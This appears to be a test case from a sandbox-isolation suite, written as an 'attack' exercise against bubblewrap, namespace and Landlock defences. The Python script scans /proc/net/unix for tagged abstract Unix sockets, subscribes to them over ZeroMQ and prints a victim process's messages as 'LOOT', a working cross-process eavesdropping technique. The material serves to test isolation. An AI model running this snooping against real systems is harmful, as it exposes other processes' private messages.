# /// attack
# exercise = "control-flow-vector"
# defended-by = ["bubblewrap", "namespaces", "landlock"]
# victim = true
# seconds = 4.0
# once = true
# ///

# %% name="function"
import os
import time

import zmq

# A subscriber needs no key. The victim prints for two seconds.
context = zmq.Context()
subscriber = context.socket(zmq.SUB)
subscriber.subscribe(b"")
own = set()
end = time.monotonic() + 1.5
while time.monotonic() < end:
    try:
        with open("/proc/net/unix") as file:
            paths = {line.split()[-1] for line in file if "@mark@" in line}
    except OSError:
        break
    for path in paths - own:
        if os.path.basename(path).startswith("k"):
            subscriber.connect(f"ipc://{path}")
    own |= paths
    if subscriber.poll(100):
        text = b" ".join(subscriber.recv_multipart()).decode(errors="replace")
        if "victim" in text:
            print("LOOT:", text[text.index("victim") :][:40])
            break
subscriber.close(0)
context.term()
